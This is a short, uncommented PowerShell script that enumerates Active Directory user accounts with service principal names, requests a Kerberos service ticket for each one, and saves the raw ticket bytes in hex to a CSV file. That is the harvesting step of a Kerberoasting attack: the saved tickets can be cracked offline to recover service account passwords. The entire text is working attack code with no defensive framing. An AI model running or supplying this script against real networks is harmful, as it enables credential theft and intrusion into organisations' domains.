Add-Type -AssemblyName System.IdentityModel

$searcher = [adsisearcher]'(&(objectCategory=user)(servicePrincipalName=*))'
$searcher.PageSize = 500
$results = $searcher.FindAll()

foreach ($r in $results) {
    foreach ($spn in $r.Properties['serviceprincipalname']) {
        try {
            $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
            $bytes = $ticket.GetRequest()
            [PSCustomObject]@{ SPN = $spn; Ticket = [BitConverter]::ToString($bytes) -replace '-' } | Export-Csv -Path .\spn.csv -Append -NoTypeInformation
        }
        catch {
        }
    }
}
